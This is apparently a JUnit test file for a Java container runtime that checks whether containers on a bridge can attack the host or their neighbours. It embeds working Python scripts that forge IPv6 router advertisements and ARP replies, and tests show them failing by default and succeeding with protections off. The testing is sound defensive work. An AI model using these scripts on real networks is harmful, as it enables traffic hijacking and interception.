package dev.containerj.core;

import static org.assertj.core.api.Assertions.assertThat;

import dev.containerj.linux.internal.LibC;
import dev.containerj.linux.internal.ProcFiles;
import dev.containerj.namespaces.Capability;
import dev.containerj.namespaces.Redirect;
import java.io.BufferedReader;
import java.io.FileOutputStream;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * What a container on a bridge can do to the host and to its neighbours with raw packets: IPv6
 * router advertisements (CVE-2020-10749 class) and forged ARP replies. Every packet stays on a
 * bridge of this test's own; the host's own interfaces and routes are only read. Root only (bridges
 * need CAP_NET_ADMIN on the host).
 */
@Tag("kernel")
@ExtendWith(LeakCheck.class)
class BridgeAttackTest {
  private static final boolean ROOT = LibC.geteuid() == 0;
  private static final String BRIDGE = "cjra" + Integer.toHexString(ThreadLocalRandom.current().nextInt(0x1000, 0xffff));
  private static final int NET = ThreadLocalRandom.current().nextInt(0, 250);
  private static final String SUBNET = "10.216." + NET + ".0/24";
  private static final String GATEWAY = "10.216." + NET + ".1";

  /**
   * Sends ten router advertisements, 0.2 s apart, out of eth0 through a packet socket: a link-local source made
   * from eth0's MAC, hop limit 255, to ff02::1, with a source link-layer option and a prefix
   * information option (argv[1]/64, on-link and autonomous, so SLAAC takes it), the router lifetime
   * argv[2] seconds and a low router preference, once a line is read from stdin. Prints "socket OK"
   * or "socket EPERM".
   */
  private static final String SEND_RA = String.join("\n",
      "import socket, struct, sys, time",
      "def csum(b):",
      "    if len(b) % 2: b += b'\\0'",
      "    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))",
      "    while s >> 16: s = (s & 0xffff) + (s >> 16)",
      "    return ~s & 0xffff",
      "try:",
      "    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)",
      "except PermissionError:",
      "    print('socket EPERM'); sys.exit(0)",
      "print('socket OK', flush=True)",
      "sys.stdin.readline()",
      "s.bind(('eth0', 0)); mac = s.getsockname()[4]",
      "src = b'\\xfe\\x80' + bytes(6) + bytes([mac[0] ^ 2]) + mac[1:3] + b'\\xff\\xfe' + mac[3:6]",
      "dst = socket.inet_pton(socket.AF_INET6, 'ff02::1')",
      "ra = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0x18, int(sys.argv[2]), 0, 0)",
      "ra += struct.pack('!BB6s', 1, 1, mac)",
      "ra += struct.pack('!BBBBIII16s', 3, 4, 64, 0xc0, 600, 600, 0, socket.inet_pton(socket.AF_INET6, sys.argv[1]))",
      "c = csum(src + dst + struct.pack('!I3xB', len(ra), 58) + ra)",
      "ra = ra[:2] + struct.pack('!H', c) + ra[4:]",
      "ip6 = struct.pack('!IHBB', 6 << 28, len(ra), 58, 255) + src + dst",
      "for i in range(10):",
      "    s.send(b'\\x33\\x33\\x00\\x00\\x00\\x01' + mac + b'\\x86\\xdd' + ip6 + ra); time.sleep(0.2)",
      "print('sent')");

  /**
   * The victim: makes the kernel resolve the gateway (a UDP datagram to it), prints its address,
   * eth0's MAC and the gateway's MAC, waits out the neighbour lock time (1 s: a newer answer within it
   * does not override), prints "ready", then watches its neighbour table for up to argv[2] seconds
   * until the gateway's entry has the MAC argv[3]; prints the entry's MAC last.
   */
  private static final String VICTIM = String.join("\n",
      "import socket, struct, fcntl, sys, time",
      "gw = sys.argv[1]",
      "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'x', (gw, 9))",
      "def gw_mac():",
      "    for l in open('/proc/net/arp').read().splitlines()[1:]:",
      "        f = l.split()",
      "        if f[0] == gw and f[2] == '0x2': return f[3]",
      "    return None",
      "end = time.time() + 5",
      "while gw_mac() is None and time.time() < end: time.sleep(0.05)",
      "hw = fcntl.ioctl(u.fileno(), 0x8927, struct.pack('256s', b'eth0'))[18:24]",  // SIOCGIFHWADDR
      "print('mac', ':'.join('%02x' % b for b in hw))",
      "print('gw', gw_mac())",
      "time.sleep(1.2)",
      "print('ready', flush=True)",
      "end = time.time() + float(sys.argv[2])",
      "while gw_mac() != sys.argv[3] and time.time() < end: time.sleep(0.05)",
      "print('now', gw_mac())");

  /** The attacker: five forged ARP replies to the victim, "GATEWAY is at FAKE". Prints like SEND_RA. */
  private static final String SPOOF_ARP = String.join("\n",
      "import socket, struct, sys, time",
      "vip, vmac, gw, fake = sys.argv[1], bytes.fromhex(sys.argv[2].replace(':', '')), sys.argv[3],"
          + " bytes.fromhex(sys.argv[4].replace(':', ''))",
      "try:",
      "    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)",
      "except PermissionError:",
      "    print('socket EPERM'); sys.exit(0)",
      "print('socket OK', flush=True)",
      "s.bind(('eth0', 0))",
      "arp = struct.pack('!HHBBH6s4s6s4s', 1, 0x0800, 6, 4, 2, fake, socket.inet_aton(gw), vmac, socket.inet_aton(vip))",
      "for i in range(5):",
      "    s.send(vmac + fake + b'\\x08\\x06' + arp); time.sleep(0.1)",
      "print('sent')");

  @BeforeAll
  static void network() throws Exception {
    Assumptions.assumeTrue(ROOT, "bridges need CAP_NET_ADMIN on the host (rootless: NET_RAW is checked in "
        + "EscapeTest.rawSocketNeedsNetRaw)");
    ContainerRuntime.defaults().networks().create(BRIDGE, SUBNET);
  }

  @AfterAll
  static void removeNetwork() throws Exception {
    if (ROOT) {
      ContainerRuntime.defaults().networks().remove(BRIDGE);
      assertThat(Path.of("/sys/class/net", BRIDGE)).doesNotExist();
    }
  }

  private static Path conf(String ifname, String key) {
    return Path.of("/proc/sys/net/ipv6/conf", ifname, key);
  }

  private static String read(Path p) throws Exception {
    return ProcFiles.read(p.toString()).trim();
  }

  private static void write(Path p, String value) throws Exception {
    try (FileOutputStream out = new FileOutputStream(p.toFile())) {
      out.write((value + "\n").getBytes(StandardCharsets.US_ASCII));
    }
  }

  private static List<String> ports() throws Exception {
    List<String> out = new ArrayList<>();
    try (DirectoryStream<Path> ds = Files.newDirectoryStream(Path.of("/sys/class/net", BRIDGE, "brif"))) {
      ds.forEach(p -> out.add(p.getFileName().toString()));
    }
    return out;
  }

  private static String ip(String... args) throws Exception {
    List<String> cmd = new ArrayList<>(List.of("ip"));
    cmd.addAll(List.of(args));
    Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(p.waitFor(10, TimeUnit.SECONDS)).isTrue();
    return out;
  }

  /** What the host's bridge took: its global addresses and its default routes, after up to {@code millis}. */
  private static String hostTook(String prefix, long millis) throws Exception {
    long end = System.nanoTime() + millis * 1_000_000;
    String seen;
    do {
      seen = (ip("-6", "-o", "addr", "show", "dev", BRIDGE, "scope", "global")
          + ip("-6", "route", "show", "default", "dev", BRIDGE)).trim();
      if (seen.contains(prefix) && seen.contains("default via fe80")) {
        return seen;
      }
      Thread.sleep(100);
    } while (System.nanoTime() < end);
    return seen;
  }

  private static Run.Result python(ContainerSpec.Builder b, String script, String... args) throws Exception {
    List<String> cmd = new ArrayList<>(List.of("python3", "-c", script));
    cmd.addAll(List.of(args));
    return Run.run(b.network(Network.bridge(BRIDGE)).command(cmd).stdout(Redirect.PIPE).stderr(Redirect.PIPE).build());
  }

  @Test
  void theBridgeAndEveryHostVethTakeNoRouterAdvertisements() throws Exception {
    Assumptions.assumeTrue(Files.isDirectory(Path.of("/proc/sys/net/ipv6")), "no IPv6 on this host");
    try (Container c = Container.start(ContainerSpec.builder().network(Network.bridge(BRIDGE)).command("sleep", "100").build())) {
      List<String> ports = ports();
      assertThat(ports).hasSize(1).allMatch(p -> p.startsWith("cjv"));
      assertThat(read(conf(BRIDGE, "accept_ra"))).isEqualTo("0");
      assertThat(read(conf(ports.get(0), "accept_ra"))).isEqualTo("0");
      // what the kernel would have given them
      assertThat(read(conf("default", "accept_ra"))).isNotEqualTo("0");
    }
    // and the container's own eth0 (no neighbour becomes its router), against its namespace's default
    Run.Result inside = Run.run(Run.sh("cat /proc/sys/net/ipv6/conf/eth0/accept_ra /proc/sys/net/ipv6/conf/default/accept_ra")
        .network(Network.bridge(BRIDGE)).build());
    assertThat(inside.out()).as(inside.err()).isEqualTo("0\n1\n");
  }

  @Test
  void aRouterAdvertisementFromAContainerChangesNothingOnTheHost() throws Exception {
    Assumptions.assumeTrue(Files.isDirectory(Path.of("/proc/sys/net/ipv6")), "no IPv6 on this host");
    assertThat(read(conf(BRIDGE, "disable_ipv6"))).isEqualTo("0");
    String p1 = String.format("fd%02x:%x:%x:1::", NET, ThreadLocalRandom.current().nextInt(0x10000),
        ThreadLocalRandom.current().nextInt(0x10000));
    String p2 = p1.replace(":1::", ":2::");
    // A neighbour that keeps the bridge up and its IPv6 ready, so that advertisements are processed
    // from the first one (a bridge whose only port just came up has no carrier yet).
    try (Container keeper = Container.start(ContainerSpec.builder().network(Network.bridge(BRIDGE)).command("sleep", "100").build())) {
      Thread.sleep(1000);
      routerAdvertisements(p1, p2);
    }
  }

  private void routerAdvertisements(String p1, String p2) throws Exception {
    // NET_RAW added (it is not in the default set): the advertisement goes out, and the host ignores it.
    assertThat(sendRa(p1, "1800", () -> { })).isEqualTo("socket OK\nsent\n");
    String took = hostTook(p1.substring(0, p1.length() - 2), 2000);
    assertThat(took).doesNotContain(p1.substring(0, p1.length() - 2)).doesNotContain("default");

    // Protection off: the bridge accepts advertisements again (2: even if the host forwards). Its
    // default route from them gets a metric far behind any real one, and is removed at once.
    Path acceptRa = conf(BRIDGE, "accept_ra");
    Path metric = conf(BRIDGE, "ra_defrtr_metric");
    boolean hasMetric = Files.exists(metric);
    String metricBefore = hasMetric ? read(metric) : "";
    try {
      if (hasMetric) {
        write(metric, "4000000000");
      }
      // After the start: connecting a container to the bridge sets accept_ra=0 again.
      assertThat(sendRa(p2, "30", () -> write(acceptRa, "2"))).isEqualTo("socket OK\nsent\n");
      took = hostTook(p2.substring(0, p2.length() - 2), 5000);
      assertThat(took).as("the host's bridge after the advertisement").contains(p2.substring(0, p2.length() - 2))
          .contains("default via fe80");
    } finally {
      write(acceptRa, "0");
      ip("-6", "route", "flush", "dev", BRIDGE, "proto", "ra");
      ip("-6", "addr", "flush", "dev", BRIDGE, "scope", "global");
      if (hasMetric) {
        write(metric, metricBefore);
      }
    }
    assertThat(hostTook("none", 0)).doesNotContain("default").doesNotContain(p2.substring(0, p2.length() - 2));
  }

  interface Step {
    void run() throws Exception;
  }

  /** Starts the sender with NET_RAW, runs {@code beforeSending}, lets it send; returns its output. */
  private static String sendRa(String prefix, String routerLifetime, Step beforeSending) throws Exception {
    try (Container c = Container.start(ContainerSpec.builder().network(Network.bridge(BRIDGE)).addCapability(Capability.CAP_NET_RAW)
        .command("python3", "-c", SEND_RA, prefix, routerLifetime).stdin(Redirect.PIPE).stdout(Redirect.PIPE)
        .stderr(Redirect.PIPE).build())) {
      var out = Run.drain(c.stdout());
      var err = Run.drain(c.stderr());
      beforeSending.run();
      c.stdin().write("go\n".getBytes(StandardCharsets.US_ASCII));
      c.stdin().close();
      c.waitFor();
      assertThat(err.get()).isEmpty();
      return out.get();
    }
  }

  @Test
  void aContainerWithoutNetRawCannotForgeArpRepliesToItsNeighbour() throws Exception {
    String fake = "02:de:ad:be:ef:" + String.format("%02x", NET);
    // Protection on (the default set): the attacker gets no packet socket, the victim's entry stays.
    Map<String, String> on = arpAttack(ContainerSpec.builder(), fake, 2);
    assertThat(on.get("attacker")).isEqualTo("socket EPERM");
    assertThat(on.get("now")).isEqualTo(on.get("gw")).isNotEqualTo(fake);
    // Protection off: with NET_RAW the forged replies replace the gateway's MAC in the victim's table.
    Map<String, String> off = arpAttack(ContainerSpec.builder().addCapability(Capability.CAP_NET_RAW), fake, 5);
    assertThat(off.get("attacker")).isEqualTo("socket OK sent");
    assertThat(off.get("gw")).isNotEqualTo(fake);
    assertThat(off.get("now")).isEqualTo(fake);
  }

  /**
   * Not a protection: what README-security.md documents. A host service listening on 0.0.0.0 answers
   * a bridge container through the gateway address and through the host's other addresses, as with
   * Docker without a firewall; the default loopback network does not reach it.
   */
  @Test
  void aBridgeContainerReachesHostServicesOnEveryHostAddress() throws Exception {
    String other = null;
    for (String l : ip("-4", "-o", "addr", "show", "scope", "global").split("\n")) {
      String[] f = l.trim().split("\\s+");
      if (f.length > 3 && !f[1].startsWith("cj") && !f[1].startsWith("containerj")) {
        other = f[3].substring(0, f[3].indexOf('/'));
        break;
      }
    }
    String connect = String.join("\n",
        "import socket, sys",
        "for host in sys.argv[2:]:",
        "    try:",
        "        s = socket.create_connection((host, int(sys.argv[1])), timeout=3); print(host, s.recv(10).decode())",
        "    except OSError as e:",
        "        print(host, type(e).__name__)");
    try (java.net.ServerSocket server = new java.net.ServerSocket(0, 8, java.net.InetAddress.getByName("0.0.0.0"))) {
      Thread t = new Thread(() -> {
        while (!server.isClosed()) {
          try (java.net.Socket c = server.accept()) {
            c.getOutputStream().write("host".getBytes(StandardCharsets.US_ASCII));
          } catch (java.io.IOException e) {
            return;
          }
        }
      });
      t.setDaemon(true);
      t.start();
      String port = Integer.toString(server.getLocalPort());
      List<String> targets = new ArrayList<>(List.of(GATEWAY));
      if (other != null) {
        targets.add(other);
      }
      List<String> args = new ArrayList<>(List.of(port));
      args.addAll(targets);
      Run.Result bridged = python(ContainerSpec.builder(), connect, args.toArray(new String[0]));
      for (String target : targets) {
        assertThat(bridged.out()).as(bridged.err()).contains(target + " host\n");
      }
      Run.Result loopback = Run.run(ContainerSpec.builder().command(
          java.util.stream.Stream.concat(List.of("python3", "-c", connect).stream(), args.stream()).toList())
          .stdout(Redirect.PIPE).stderr(Redirect.PIPE).build());
      assertThat(loopback.out()).as(loopback.err()).doesNotContain(" host\n").contains(GATEWAY + " OSError");
    }
  }

  /**
   * An internal network: its bridge in a namespace of its own, without an address. Its containers
   * reach each other, and no host service on any host address; the same probe from the ordinary
   * bridge (protection off) reaches the service through the gateway.
   */
  @Test
  void anInternalNetworkReachesNoHostService() throws Exception {
    String name = "cjin" + Integer.toHexString(ThreadLocalRandom.current().nextInt(0x1000, 0xffff));
    String prefix = "10.217." + NET + ".";
    Networks.Info info = ContainerRuntime.defaults().networks().createInternal(name, prefix + "0/24");
    try {
      assertThat(info.bridgeExists()).isTrue();
      assertThat(Path.of("/sys/class/net", name)).as("no bridge among the host's links").doesNotExist();
      assertThat(ip("-4", "-o", "addr", "show")).doesNotContain(prefix);
      String connect = String.join("\n",
          "import socket, sys",
          "for host in sys.argv[2:]:",
          "    try:",
          "        s = socket.create_connection((host, int(sys.argv[1])), timeout=3); print(host, s.recv(10).decode())",
          "    except OSError as e:",
          "        print(host, type(e).__name__)");
      String other = null;
      for (String l : ip("-4", "-o", "addr", "show", "scope", "global").split("\n")) {
        String[] f = l.trim().split("\\s+");
        if (f.length > 3 && !f[1].startsWith("cj") && !f[1].startsWith("containerj")) {
          other = f[3].substring(0, f[3].indexOf('/'));
          break;
        }
      }
      try (java.net.ServerSocket server = new java.net.ServerSocket(0, 8, java.net.InetAddress.getByName("0.0.0.0"));
          Container peer = Container.start(ContainerSpec.builder().network(Network.bridge(name)).command("python3", "-c",
              "import socket\ns = socket.socket(); s.bind(('0.0.0.0', 8080)); s.listen(4)\n"
                  + "while True:\n    c, _ = s.accept(); c.sendall(b'peer'); c.close()").build())) {
        Thread t = new Thread(() -> {
          while (!server.isClosed()) {
            try (java.net.Socket c = server.accept()) {
              c.getOutputStream().write("host".getBytes(StandardCharsets.US_ASCII));
            } catch (java.io.IOException e) {
              return;
            }
          }
        });
        t.setDaemon(true);
        t.start();
        String port = Integer.toString(server.getLocalPort());
        List<String> hostAddresses = new ArrayList<>(List.of(prefix + "1", GATEWAY, "127.0.0.1"));
        if (other != null) {
          hostAddresses.add(other);
        }
        List<String> args = new ArrayList<>(List.of(port));
        args.addAll(hostAddresses);
        Run.Result internal = Run.run(ContainerSpec.builder().network(Network.bridge(name))
            .command(java.util.stream.Stream.concat(List.of("python3", "-c", connect).stream(), args.stream()).toList())
            .stdout(Redirect.PIPE).stderr(Redirect.PIPE).build());
        assertThat(internal.out()).as(internal.err()).doesNotContain(" host\n");
        assertThat(internal.out().lines().count()).isEqualTo(hostAddresses.size());
        String peerAddress = peer.ipAddress().orElseThrow().getHostAddress();
        Run.Result neighbour = Run.run(ContainerSpec.builder().network(Network.bridge(name))
            .command("python3", "-c", connect, "8080", peerAddress).stdout(Redirect.PIPE).stderr(Redirect.PIPE).build());
        assertThat(neighbour.out()).as(neighbour.err()).isEqualTo(peerAddress + " peer\n");
        // Protection off: the ordinary bridge reaches the host's service through its gateway.
        Run.Result bridged = python(ContainerSpec.builder(), connect, port, GATEWAY);
        assertThat(bridged.out()).as(bridged.err()).isEqualTo(GATEWAY + " host\n");
        // Nothing on the host reaches into it: no port can be published from it.
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> Container.start(ContainerSpec.builder().network(Network.bridge(name))
            .command("true").publish("127.0.0.1:" + port + ":80").build()).close())
            .isInstanceOf(ContainerStartException.class).hasMessageContaining("internal network " + name);
      }
    } finally {
      ContainerRuntime.defaults().networks().remove(name);
    }
    assertThat(Path.of("/run/netns", "containerj-" + name)).doesNotExist();
    assertThat(ContainerRuntime.defaults().networks().list()).noneMatch(n -> n.name().equals(name));
  }

  /** The victim's lines (mac, gw, now) and the attacker's output (one line). */
  private static Map<String, String> arpAttack(ContainerSpec.Builder attacker, String fake, int watchSeconds)
      throws Exception {
    Map<String, String> seen = new HashMap<>();
    try (Container victim = Container.start(ContainerSpec.builder().network(Network.bridge(BRIDGE))
        .command("python3", "-c", VICTIM, GATEWAY, Integer.toString(watchSeconds), fake)
        .stdout(Redirect.PIPE).build())) {
      BufferedReader lines = new BufferedReader(new InputStreamReader(victim.stdout(), StandardCharsets.UTF_8));
      for (String l; (l = lines.readLine()) != null && !l.equals("ready"); ) {
        String[] kv = l.split(" ", 2);
        seen.put(kv[0], kv[1]);
      }
      assertThat(seen.get("gw")).as("the victim resolved the gateway").isNotNull().isNotEqualTo("None");
      Run.Result a = python(attacker, SPOOF_ARP, victim.ipAddress().orElseThrow().getHostAddress(), seen.get("mac"),
          GATEWAY, fake);
      seen.put("attacker", (a.out() + a.err()).trim().replace('\n', ' '));
      for (String l; (l = lines.readLine()) != null; ) {
        String[] kv = l.split(" ", 2);
        seen.put(kv[0], kv[1]);
      }
      victim.waitFor();
    }
    return seen;
  }
}
